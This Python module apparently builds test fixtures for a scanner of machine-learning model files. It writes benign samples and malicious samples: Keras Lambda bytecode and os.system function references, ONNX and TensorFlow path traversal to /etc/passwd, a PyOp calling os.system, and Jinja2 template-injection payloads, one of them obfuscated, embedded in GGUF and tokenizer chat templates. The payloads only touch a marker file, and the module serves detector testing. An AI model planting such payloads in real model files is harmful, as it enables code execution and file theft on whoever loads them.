"""Malicious and benign files in the non-pickle model formats.

Keras (``.keras`` zips, HDF5, SavedModel metadata), ONNX, TensorFlow SavedModel,
safetensors, GGUF and Hugging Face tokenizer configs. Payloads that run code only touch
the marker file; each sample's ``loader:`` tag names how a victim would trigger it (see
:data:`FORMAT_LOADERS`; ``loader:none`` marks files whose harm is not code execution,
such as a path traversal or a parser differential, so no marker can show it).
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import struct
import types
import zipfile
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import onnx
from onnx import TensorProto, helper
from onnx.external_data_helper import set_external_data
from safetensors.numpy import save_file

from . import protowriter as pw
from .ggufwriter import ARRAY, F32, GGML_F32, KV, STRING, U32, TensorInfo, write_gguf
from .payloads import Payload
from .sample import Sample

KER, ONNX, TF, ST, GGUF, TPL = "MLW-KER", "MLW-ONNX", "MLW-TF", "MLW-ST", "MLW-GGUF", "MLW-TPL"

# How a victim triggers each sample, as child-process snippets (file path in sys.argv[1]).
# Keras is not installed here, so its loader is reproduced: what
# keras.src.utils.python_utils.func_load does to a Lambda layer's function when the
# model is rebuilt. The chat-template loader renders the way unsandboxed servers did
# (llama-cpp-python before 0.2.72, CVE-2024-34359).
FORMAT_LOADERS: dict[str, str] = {
    "keras-func-load": (
        "import base64, json, marshal, sys, types, zipfile\n"
        "path = sys.argv[1]\n"
        "if open(path, 'rb').read(4) == b'PK\\x03\\x04':\n"
        "    cfg = json.loads(zipfile.ZipFile(path).read('config.json'))\n"
        "else:\n"
        "    import h5py\n"
        "    cfg = json.loads(h5py.File(path, 'r').attrs['model_config'])\n"
        "def codes(o):\n"
        "    if isinstance(o, dict):\n"
        "        if o.get('class_name') == 'Lambda':\n"
        "            fn = o['config']['function']\n"
        "            if isinstance(fn, dict):\n"
        "                fn = fn['config'].get('code') or fn['config']['value']\n"
        "            yield fn[0] if isinstance(fn, list) else fn\n"
        "        for v in o.values():\n"
        "            yield from codes(v)\n"
        "    elif isinstance(o, list):\n"
        "        for v in o:\n"
        "            yield from codes(v)\n"
        "for code in codes(cfg):\n"
        "    types.FunctionType(marshal.loads(base64.b64decode(code)), globals())(0)\n"
    ),
    "jinja2-unsandboxed": (
        "import json, struct, sys, jinja2\n"
        "data = open(sys.argv[1], 'rb').read()\n"
        "templates = []\n"
        "if data[:4] == b'GGUF':\n"
        "    pos = 24\n"
        "    n_kv = struct.unpack_from('<Q', data, 16)[0]\n"
        "    def text():\n"
        "        global pos\n"
        "        (n,) = struct.unpack_from('<Q', data, pos)\n"
        "        pos += 8 + n\n"
        "        return data[pos - n : pos].decode()\n"
        "    sizes = {0: 1, 1: 1, 2: 2, 3: 2, 4: 4, 5: 4, 6: 4, 7: 1, 10: 8, 11: 8, 12: 8}\n"
        "    for _ in range(n_kv):\n"
        "        key = text()\n"
        "        (kind,) = struct.unpack_from('<I', data, pos)\n"
        "        pos += 4\n"
        "        if kind == 8:\n"
        "            value = text()\n"
        "            if key.startswith('tokenizer.chat_template'):\n"
        "                templates.append(value)\n"
        "        elif kind == 9:\n"
        "            item, count = struct.unpack_from('<IQ', data, pos)\n"
        "            pos += 12\n"
        "            for _ in range(count):\n"
        "                if item == 8:\n"
        "                    text()\n"
        "                else:\n"
        "                    pos += sizes[item]\n"
        "        else:\n"
        "            pos += sizes[kind]\n"
        "else:\n"
        "    templates.append(json.loads(data)['chat_template'])\n"
        "for t in templates:\n"
        "    jinja2.Environment().from_string(t).render(\n"
        "        messages=[{'role': 'user', 'content': 'hi'}], add_generation_prompt=True,\n"
        "        bos_token='<s>', eos_token='</s>')\n"
    ),
}


# ------------------------------------------------------------------ Keras


def lambda_code(p: Payload) -> str:
    """A Lambda layer's function as Keras's func_dump writes it: base64 of marshal."""
    source = f"lambda x: ({p.code}, x)[1]"
    outer = compile(source, "<lambda>", "eval")
    code = next(c for c in outer.co_consts if isinstance(c, types.CodeType))
    return base64.encodebytes(marshal.dumps(code)).decode("ascii")


def _k3(module: str, cls: str, config: Any, **extra: Any) -> dict[str, Any]:
    return {"module": module, "class_name": cls, "config": config, "registered_name": None, **extra}


def _dense(name: str, units: int) -> dict[str, Any]:
    init = _k3("keras.initializers", "GlorotUniform", {"seed": None})
    zeros = _k3("keras.initializers", "Zeros", {})
    config = {
        "name": name,
        "trainable": True,
        "dtype": _k3("keras", "DTypePolicy", {"name": "float32"}),
        "units": units,
        "activation": "relu",
        "use_bias": True,
        "kernel_initializer": init,
        "bias_initializer": zeros,
        "kernel_regularizer": None,
        "bias_regularizer": None,
        "kernel_constraint": None,
        "bias_constraint": None,
    }
    return _k3("keras.layers", "Dense", config, build_config={"input_shape": [None, 4]})


def keras3_config(*extra_layers: dict[str, Any]) -> dict[str, Any]:
    """A Keras 3 ``config.json`` for a small Sequential model, as ``model.save`` writes."""
    layers = [
        _k3(
            "keras.layers",
            "InputLayer",
            {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": "input_layer"},
        ),
        _dense("dense", 8),
        *extra_layers,
        _dense("dense_1", 2),
    ]
    adam = _k3(
        "keras.optimizers",
        "Adam",
        {"name": "adam", "learning_rate": 0.001, "beta_1": 0.9, "beta_2": 0.999, "epsilon": 1e-07},
    )
    return _k3(
        "keras",
        "Sequential",
        {"name": "sequential", "trainable": True, "layers": layers, "build_input_shape": [None, 4]},
        build_config={"input_shape": [None, 4]},
        compile_config={
            "optimizer": adam,
            "loss": "mean_squared_error",
            "metrics": ["mae"],
            "loss_weights": None,
            "run_eagerly": False,
            "jit_compile": False,
        },
    )


def _weights_h5() -> bytes:
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        for layer, shape in (("dense", (4, 8)), ("dense_1", (8, 2))):
            group = f.create_group(f"layers/{layer}/vars")
            group.create_dataset("0", data=np.zeros(shape, np.float32))
            group.create_dataset("1", data=np.zeros(shape[1], np.float32))
    return buf.getvalue()


def write_keras(path: Path, config: dict[str, Any]) -> Path:
    """A ``.keras`` archive: config.json, metadata.json, model.weights.h5."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "metadata.json", json.dumps({"keras_version": "3.10.0", "date_saved": "2026-01-01"})
        )
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", _weights_h5())
    return path


def keras2_model_config(*extra_layers: dict[str, Any]) -> dict[str, Any]:
    """``model_config`` as tf.keras 2.x writes it into an HDF5 file (no ``module`` keys)."""

    def dense(name: str, units: int) -> dict[str, Any]:
        return {
            "class_name": "Dense",
            "config": {
                "name": name,
                "trainable": True,
                "dtype": "float32",
                "units": units,
                "activation": "relu",
                "use_bias": True,
                "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
                "bias_initializer": {"class_name": "Zeros", "config": {}},
                "kernel_regularizer": None,
                "bias_regularizer": None,
                "activity_regularizer": None,
                "kernel_constraint": None,
                "bias_constraint": None,
            },
        }

    layers = [
        {
            "class_name": "InputLayer",
            "config": {
                "batch_input_shape": [None, 4],
                "dtype": "float32",
                "sparse": False,
                "ragged": False,
                "name": "input_1",
            },
        },
        dense("dense", 8),
        *extra_layers,
        dense("dense_1", 2),
    ]
    return {
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": layers},
        "keras_version": "2.15.0",
        "backend": "tensorflow",
    }


KERAS2_TRAINING_CONFIG = {
    "loss": "mse",
    "metrics": [
        [
            {
                "class_name": "MeanMetricWrapper",
                "config": {"name": "mae", "dtype": "float32", "fn": "mean_absolute_error"},
            }
        ]
    ],
    "weighted_metrics": None,
    "loss_weights": None,
    "optimizer_config": {
        "class_name": "Custom>Adam",
        "config": {
            "name": "Adam",
            "learning_rate": 0.001,
            "beta_1": 0.9,
            "beta_2": 0.999,
            "epsilon": 1e-07,
            "amsgrad": False,
            "is_legacy_optimizer": False,
        },
    },
}


def write_h5(path: Path, model_config: dict[str, Any], training: bool = True) -> Path:
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = b"2.15.0"
        f.attrs["backend"] = b"tensorflow"
        f.attrs["model_config"] = json.dumps(model_config).encode()
        if training:
            f.attrs["training_config"] = json.dumps(KERAS2_TRAINING_CONFIG).encode()
        weights = f.create_group("model_weights/dense/dense")
        weights.create_dataset("kernel:0", data=np.zeros((4, 8), np.float32))
    return path


def keras2_lambda(p: Payload) -> dict[str, Any]:
    return {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": [lambda_code(p), None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }


def keras3_lambda(p: Payload) -> dict[str, Any]:
    fn = {
        "class_name": "__lambda__",
        "config": {"code": lambda_code(p), "defaults": None, "closure": None},
    }
    return _k3(
        "keras.layers",
        "Lambda",
        {"name": "lambda", "trainable": True, "function": fn, "arguments": {}},
    )


def keras3_function_lambda(
    name: str, module: str, function: str, **arguments: Any
) -> dict[str, Any]:
    """A Lambda whose function is a reference Keras resolves (no bytecode): the shape of
    CVE-2025-1550 and its safe-mode bypasses."""
    fn = {
        "module": module,
        "class_name": "function",
        "config": function,
        "registered_name": "function",
    }
    return _k3("keras.layers", "Lambda", {"name": name, "function": fn, "arguments": arguments})


# ------------------------------------------------------------------ ONNX


def onnx_model(
    weight: TensorProto | None = None,
    extra_nodes: list[onnx.NodeProto] | None = None,
    opsets: dict[str, int] | None = None,
) -> onnx.ModelProto:
    """Y = X @ W (+ extra nodes), with W either inline or the given tensor."""
    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 2])
    if weight is None:
        weight = helper.make_tensor("W", TensorProto.FLOAT, [4, 2], np.arange(8, dtype=np.float32))
    nodes = [helper.make_node("MatMul", ["X", "W"], ["Y"], name="matmul")]
    graph = helper.make_graph(nodes + (extra_nodes or []), "mlp", [x], [y], [weight])
    imports = [helper.make_opsetid("", 17)] + [
        helper.make_opsetid(d, v) for d, v in (opsets or {}).items()
    ]
    return helper.make_model(graph, opset_imports=imports, producer_name="mlwarden-tests")


def external_tensor(name: str, location: str) -> TensorProto:
    data = np.arange(8, dtype=np.float32)
    tensor = helper.make_tensor(name, TensorProto.FLOAT, [4, 2], data.tobytes(), raw=True)
    set_external_data(tensor, location=location, offset=0, length=data.nbytes)
    tensor.data_location = TensorProto.EXTERNAL
    tensor.ClearField("raw_data")
    return tensor


def _write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _onnx_in_subgraph(location: str) -> onnx.ModelProto:
    const = helper.make_node("Constant", [], ["c"], value=external_tensor("c", location))
    out = helper.make_tensor_value_info("c", TensorProto.FLOAT, [4, 2])
    then_graph = helper.make_graph([const], "then", [], [out])
    else_graph = helper.make_graph(
        [helper.make_node("Constant", [], ["c"], value_float=0.0)], "else", [], [out]
    )
    branch = helper.make_node(
        "If", ["cond"], ["branch_out"], then_branch=then_graph, else_branch=else_graph
    )
    return onnx_model(extra_nodes=[branch])


# ------------------------------------------------------------------ TensorFlow


def _tf_benign_graph() -> bytes:
    nodes = [
        pw.node_def("x", "Placeholder"),
        pw.node_def("w", "Const"),
        pw.node_def("y", "MatMul", inputs=("x", "w")),
        pw.node_def("saver_filename", "Placeholder"),
        pw.node_def("save", "SaveV2", inputs=("saver_filename",)),
        pw.node_def("restore", "RestoreV2", inputs=("saver_filename",)),
        pw.node_def("merge", "MergeV2Checkpoints"),
        pw.node_def("call", "StatefulPartitionedCall", inputs=("x",)),
    ]
    fn = pw.function_def(
        "__inference_call_42", pw.node_def("m", "MatMul"), pw.node_def("r", "Relu")
    )
    return pw.graph_def(nodes, [fn])


def _tf_pyfunc_graph() -> bytes:
    nodes = [pw.node_def("x", "Placeholder"), pw.node_def("call", "StatefulPartitionedCall")]
    fn = pw.function_def(
        "__inference_serve_7",
        pw.node_def("py", "EagerPyFunc", pw.attr_string("token", "pyfunc_0"), inputs=("x",)),
    )
    return pw.graph_def(nodes, [fn])


def _tf_file_graph(marker: Path) -> bytes:
    nodes = [
        pw.node_def("path", "Const"),
        pw.node_def("steal", "ReadFile", inputs=("path",)),
        pw.node_def("drop", "WriteFile", inputs=("path", "steal")),
        pw.node_def("log", "PrintV2", pw.attr_string("output_stream", f"file://{marker}")),
    ]
    return pw.graph_def(nodes)


# ------------------------------------------------------------------ safetensors


def safetensors_bytes(header: bytes, data: bytes) -> bytes:
    header += b" " * (-len(header) % 8)
    if header_looks_like_pickle(len(header)):
        header += b" " * 8  # keep fixtures clear of the detector's pickle-first order
    return struct.pack("<Q", len(header)) + header + data


def header_looks_like_pickle(n: int) -> bool:
    """Header lengths whose little-endian bytes start like a pickle (0x80, protocol <= 5)."""
    return n & 0xFF == 0x80 and (n >> 8) & 0xFF <= 5


# ------------------------------------------------------------------ chat templates

BENIGN_TEMPLATE = """{%- set ns = namespace(system='') -%}
{%- for message in messages -%}
  {%- if message['role'] == 'system' -%}{%- set ns.system = message['content'] | trim -%}
  {%- elif message.role in ['user', 'assistant'] -%}
    {{- '<|im_start|>' + message.role + '\\n' + message.content | trim + '<|im_end|>\\n' }}
  {%- else -%}{{ raise_exception('Unknown role: ' ~ message.role) }}
  {%- endif -%}
{%- endfor -%}
{%- if tools is defined and tools -%}
  {%- for tool in tools -%}{{ tool | tojson(indent=2) }}{%- endfor -%}
{%- endif -%}
{%- if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif -%}"""


def ssti_classic(p: Payload) -> str:
    return (
        "{{ cycler.__init__.__globals__.os.popen("
        + json.dumps(p.cmd)
        + ").read() }}"
        + BENIGN_TEMPLATE
    )


def ssti_obfuscated(p: Payload) -> str:
    """No dunder appears literally: hex escapes, a variable and concatenation build them."""
    return (
        "{% set u = '\\x5f' %}{% set g = u*2 ~ 'glo' ~ 'bals' ~ u*2 %}"
        "{{ lipsum|attr(g)|attr('get')('o' ~ 's')|attr('popen')("
        + json.dumps(p.cmd)
        + ")|attr('read')() }}"
        + BENIGN_TEMPLATE
    )


def _gguf(templates: list[tuple[str, str]]) -> bytes:
    tokens = ["<unk>", "<s>", "</s>", "<|im_start|>", "<|im_end|>", "hello", "world"]
    kvs = [
        KV("general.architecture", STRING, "llama"),
        KV("general.name", STRING, "tiny-test"),
        KV("general.alignment", U32, 32),
        KV("llama.context_length", U32, 128),
        KV("tokenizer.ggml.model", STRING, "llama"),
        KV("tokenizer.ggml.tokens", ARRAY, tokens, STRING),
        KV("tokenizer.ggml.scores", ARRAY, [0.0] * len(tokens), F32),
        *(KV(key, STRING, text) for key, text in templates),
    ]
    tensors = [
        TensorInfo("token_embd.weight", (8, len(tokens)), GGML_F32, bytes(4 * 8 * len(tokens))),
        TensorInfo("output_norm.weight", (8,), GGML_F32, bytes(32)),
    ]
    return write_gguf(kvs, tensors)


def tokenizer_config(template: str) -> bytes:
    return json.dumps(
        {
            "add_bos_token": True,
            "bos_token": "<s>",
            "eos_token": "<|im_end|>",
            "model_max_length": 32768,
            "tokenizer_class": "PreTrainedTokenizerFast",
            "added_tokens_decoder": {"0": {"content": "<unk>", "special": True}},
            "chat_template": template,
        },
        indent=2,
    ).encode()


# ------------------------------------------------------------------ builders


def build_format_malicious(out_dir: Path, marker: Path) -> list[Sample]:
    """Write every malicious non-pickle sample under ``out_dir``."""
    out_dir.mkdir(parents=True, exist_ok=True)
    p = Payload(marker)
    samples: list[Sample] = []

    def add(name: str, path: Path, technique: str, prefix: str, loader: str = "none") -> None:
        samples.append(Sample(name, path, "malicious", technique, prefix, (f"loader:{loader}",)))

    # Keras
    add(
        "keras3_lambda_bytecode",
        write_keras(out_dir / "lambda.keras", keras3_config(keras3_lambda(p))),
        "keras:lambda-bytecode",
        KER,
        "keras-func-load",
    )
    add(
        "keras_h5_lambda_bytecode",
        write_h5(out_dir / "lambda.h5", keras2_model_config(keras2_lambda(p))),
        "keras:lambda-bytecode-hdf5",
        KER,
        "keras-func-load",
    )
    add(
        "keras3_module_import",
        write_keras(
            out_dir / "module_import.keras",
            keras3_config(keras3_function_lambda("run", "os", "system")),
        ),
        "keras:module-import",
        KER,
    )
    add(
        "keras3_get_file_gadget",
        write_keras(
            out_dir / "get_file.keras",
            keras3_config(
                keras3_function_lambda(
                    "fetch",
                    "keras.utils",
                    "get_file",
                    origin="http://127.0.0.1:9/x",
                    cache_dir="/tmp",
                    cache_subdir=".",
                )
            ),
        ),
        "keras:safe-mode-gadget",
        KER,
    )
    add(
        "keras3_unsafe_mode_gadget",
        write_keras(
            out_dir / "unsafe_mode.keras",
            keras3_config(
                keras3_function_lambda("off", "keras.config", "enable_unsafe_deserialization")
            ),
        ),
        "keras:safe-mode-gadget",
        KER,
    )
    lookup = _k3("keras.layers", "StringLookup", {"name": "lookup", "vocabulary": "/etc/passwd"})
    add(
        "keras3_lookup_file_read",
        write_keras(out_dir / "lookup.keras", keras3_config(lookup)),
        "keras:file-read",
        KER,
    )
    meta = json.dumps(
        {"class_name": "Lambda", "name": "lambda", "config": keras2_lambda(p)["config"]}
    )
    add(
        "tf_keras_metadata_lambda",
        _write(out_dir / "tf_keras" / "keras_metadata.pb", pw.keras_metadata(meta)),
        "keras:lambda-bytecode-savedmodel",
        KER,
    )

    # ONNX
    model = onnx_model(external_tensor("W", "../../../../etc/passwd"))
    add(
        "onnx_external_traversal",
        _write(out_dir / "onnx_trav" / "model.onnx", model.SerializeToString()),
        "onnx:external-data-traversal",
        ONNX,
    )
    model = onnx_model(external_tensor("W", "/etc/passwd"))
    add(
        "onnx_external_absolute",
        _write(out_dir / "onnx_abs" / "model.onnx", model.SerializeToString()),
        "onnx:external-data-absolute",
        ONNX,
    )
    add(
        "onnx_subgraph_traversal",
        _write(
            out_dir / "onnx_sub" / "model.onnx",
            _onnx_in_subgraph("../secrets.bin").SerializeToString(),
        ),
        "onnx:external-data-subgraph",
        ONNX,
    )
    pyop = helper.make_node(
        "PyOp", ["Y"], ["Z"], domain="pyop", module="os", class_name="system", compute="touch"
    )
    add(
        "onnx_pyop",
        _write(
            out_dir / "onnx_pyop.onnx",
            onnx_model(extra_nodes=[pyop], opsets={"pyop": 1}).SerializeToString(),
        ),
        "onnx:python-op",
        ONNX,
    )
    model = onnx_model(external_tensor("W", "../../../../etc/passwd"))
    add(
        "onnx_traversal_no_extension",
        _write(out_dir / "onnx_noext" / "model.bin", model.SerializeToString()),
        "onnx:content-detected",
        ONNX,
    )

    # TensorFlow SavedModel
    add(
        "tf_pyfunc",
        _write(out_dir / "tf_pyfunc" / "saved_model.pb", pw.saved_model(_tf_pyfunc_graph())),
        "tf:python-callback",
        TF,
    )
    add(
        "tf_file_ops",
        _write(out_dir / "tf_files" / "saved_model.pb", pw.saved_model(_tf_file_graph(marker))),
        "tf:file-write",
        TF,
    )
    add(
        "tf_asset_traversal",
        _write(
            out_dir / "tf_asset" / "saved_model.pb",
            pw.saved_model(_tf_benign_graph(), assets=("../../../../etc/passwd",)),
        ),
        "tf:asset-traversal",
        TF,
    )

    # safetensors
    header = (
        b'{"__metadata__":{"format":"pt"},'
        b'"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
        b'"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'
    )
    add(
        "safetensors_duplicate_key",
        _write(out_dir / "dup.safetensors", safetensors_bytes(header, bytes(16))),
        "safetensors:duplicate-key",
        ST,
    )

    # GGUF and tokenizer chat templates
    add(
        "gguf_ssti_classic",
        _write(out_dir / "ssti.gguf", _gguf([("tokenizer.chat_template", ssti_classic(p))])),
        "template:ssti",
        TPL,
        "jinja2-unsandboxed",
    )
    add(
        "gguf_ssti_obfuscated",
        _write(out_dir / "ssti_obf.gguf", _gguf([("tokenizer.chat_template", ssti_obfuscated(p))])),
        "template:ssti-obfuscated",
        TPL,
        "jinja2-unsandboxed",
    )
    add(
        "gguf_ssti_named_template",
        _write(
            out_dir / "ssti_named.gguf",
            _gguf(
                [
                    ("tokenizer.chat_template", BENIGN_TEMPLATE),
                    ("tokenizer.chat_template.tool_use", ssti_classic(p)),
                ]
            ),
        ),
        "template:ssti-named",
        TPL,
        "jinja2-unsandboxed",
    )
    add(
        "gguf_duplicate_template_key",
        _write(
            out_dir / "dup_template.gguf",
            _gguf(
                [
                    ("tokenizer.chat_template", BENIGN_TEMPLATE),
                    ("tokenizer.chat_template", ssti_obfuscated(p)),
                ]
            ),
        ),
        "gguf:duplicate-key",
        GGUF,
        "jinja2-unsandboxed",
    )
    add(
        "tokenizer_config_ssti",
        _write(out_dir / "hf_tok" / "tokenizer_config.json", tokenizer_config(ssti_classic(p))),
        "template:ssti-hf",
        TPL,
        "jinja2-unsandboxed",
    )
    return samples


def build_format_benign(out_dir: Path) -> list[Sample]:
    """Write benign files in the same formats; none may raise a finding at high or above."""
    out_dir.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []

    def add(name: str, path: Path, technique: str, *tags: str) -> None:
        samples.append(Sample(name, path, "benign", technique, "", ("loader:none", *tags)))

    add("keras3_sequential", write_keras(out_dir / "model.keras", keras3_config()), "keras:v3")
    add("keras2_h5", write_h5(out_dir / "model.h5", keras2_model_config()), "keras:hdf5")
    add(
        "keras_weights_only_h5",
        _write(out_dir / "model.weights.h5", _weights_h5()),
        "keras:weights",
    )
    layer = json.dumps(keras2_model_config()["config"]["layers"][1] | {"name": "dense"})
    add(
        "tf_keras_metadata",
        _write(out_dir / "tf_keras" / "keras_metadata.pb", pw.keras_metadata(layer)),
        "keras:savedmodel-metadata",
    )
    add("onnx_mlp", _write(out_dir / "mlp.onnx", onnx_model().SerializeToString()), "onnx:inline")
    folder = out_dir / "onnx_ext"
    _write(folder / "mlp.weights.bin", np.arange(8, dtype=np.float32).tobytes())
    add(
        "onnx_external_data",
        _write(
            folder / "mlp.onnx",
            onnx_model(external_tensor("W", "mlp.weights.bin")).SerializeToString(),
        ),
        "onnx:external",
    )
    gelu = helper.make_node("FastGelu", ["Y"], ["Z"], domain="com.microsoft")
    add(
        "onnx_contrib_op",
        _write(
            out_dir / "contrib.onnx",
            onnx_model(extra_nodes=[gelu], opsets={"com.microsoft": 1}).SerializeToString(),
        ),
        "onnx:contrib",
    )
    add(
        "tf_savedmodel",
        _write(
            out_dir / "tf" / "saved_model.pb",
            pw.saved_model(_tf_benign_graph(), assets=("vocab.txt",)),
        ),
        "tf:graph",
    )
    st_path = out_dir / "model.safetensors"
    save_file(
        {"w": np.ones((4, 4), np.float32), "b": np.zeros(4, np.float16)},
        str(st_path),
        metadata={"format": "pt"},
    )
    add("safetensors_numpy", st_path, "safetensors:library")
    add(
        "gguf_chatml",
        _write(out_dir / "model.gguf", _gguf([("tokenizer.chat_template", BENIGN_TEMPLATE)])),
        "gguf:chat-template",
    )
    add(
        "tokenizer_config",
        _write(out_dir / "hf_tok" / "tokenizer_config.json", tokenizer_config(BENIGN_TEMPLATE)),
        "template:hf",
    )
    add(
        "plain_json",
        _write(out_dir / "data.json", b'{"rows": [1, 2, 3], "name": "not a model"}'),
        "json:data",
    )
    return samples
